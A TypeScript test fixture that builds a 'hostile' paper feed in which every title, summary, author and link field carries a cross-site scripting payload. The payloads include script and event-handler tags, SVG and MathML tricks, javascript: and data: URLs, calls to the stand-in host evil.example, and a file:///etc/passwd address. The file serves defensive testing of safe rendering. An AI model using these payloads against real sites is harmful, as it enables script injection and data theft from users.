import { FIRST_FEED_DAY, type FeedDay } from '../../lib/papers/feed-day.ts';

/** What runs if any text of the feed is taken for code. */
const CODE = 'window.__pwned=1';

const TAGS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `"><script>${CODE}</script>`,
  `'><script>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `</textarea><script>${CODE}</script>`,
  `</style><script>${CODE}</script>`,
  `<!--><script>${CODE}</script>-->`,
  `<![CDATA[<script>${CODE}</script>]]>`,
  `<img src=x onerror=${CODE}>`,
  `<img src="https://evil.example/p.png" onerror="${CODE}">`,
  `<img/src/onerror=${CODE}>`,
  `<img src=x onerror=&#119;indow.__pwned=1>`,
  `<IMG SRC="jav&#x09;ascript:${CODE}">`,
  `<image src=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CODE}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe onload=${CODE}></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<body onload=${CODE}>`,
  `<body onpageshow=${CODE}>`,
  `<details open ontoggle=${CODE}><summary>x</summary></details>`,
  `<video><source onerror=${CODE}></video>`,
  `<video src=x onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}></audio>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}></select>`,
  `<textarea autofocus onfocus=${CODE}></textarea>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${CODE}>x</div>`,
  `<div style="background:url(https://evil.example/b.png)">x</div>`,
  `<div onmouseover=${CODE}>x</div>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `<button form=x formaction="javascript:${CODE}">x</button>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=preload as=image href="https://evil.example/x.png">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<portal src="https://evil.example"></portal>`,
  `<xss id=x tabindex=1 onfocus=${CODE}></xss>`,
  `&lt;img src=x onerror=${CODE}&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `<%= ${CODE} %>`,
  `javascript:${CODE}`,
  `[x](javascript:${CODE})`,
  `![x](https://evil.example/x.png)`,
];

/** Addresses that no link may carry. */
const ADDRESSES: readonly string[] = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `java\nscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:${CODE}`,
  'blob:https://huggingface.co/1b1d',
  'file:///etc/passwd',
  'http://evil.example/',
  '//evil.example/x',
  'https://user:secret@evil.example/',
  'chrome://settings',
  'https://evil.example\u0000.huggingface.co/',
  `https://huggingface.co/${'a'.repeat(10_000)}`,
];

/** A row whose texts are objects in the shape of what the user interface is built of. */
const NODE_SHAPED = {
  type: 'img',
  key: null,
  ref: null,
  props: { src: 'x', onerror: CODE, dangerouslySetInnerHTML: { __html: `<img src=x onerror=${CODE}>` } },
};

/** How many hostile papers there are. */
export const HOSTILE_COUNT = TAGS.length;

/** The id of one of them. */
export function hostileId(index: number): string {
  return `2305.${20_000 + index}`;
}

/** A feed of one day in which every text of every paper is an attack. */
export function loadHostileFeed(): Map<FeedDay, unknown[]> {
  return new Map([[FIRST_FEED_DAY, [...TAGS.map(toRow), toRowOfNodes()]]]);
}

function toRow(text: string, index: number): unknown {
  const address = ADDRESSES[index % ADDRESSES.length];
  return {
    paper: {
      id: hostileId(index),
      title: `Attack ${index}: ${text}`,
      summary: text,
      authors: [{ name: text }],
      ai_summary: text,
      ai_keywords: [text],
      githubRepo: address,
      projectPage: address,
      organization: { name: text, fullname: text },
      upvotes: 1,
      submittedOnDailyAt: `${FIRST_FEED_DAY}T00:00:00.000Z`,
    },
  };
}

function toRowOfNodes(): unknown {
  return {
    paper: {
      id: hostileId(TAGS.length),
      title: NODE_SHAPED,
      summary: NODE_SHAPED,
      authors: [NODE_SHAPED],
      ai_summary: NODE_SHAPED,
      submittedOnDailyAt: `${FIRST_FEED_DAY}T00:00:00.000Z`,
    },
  };
}
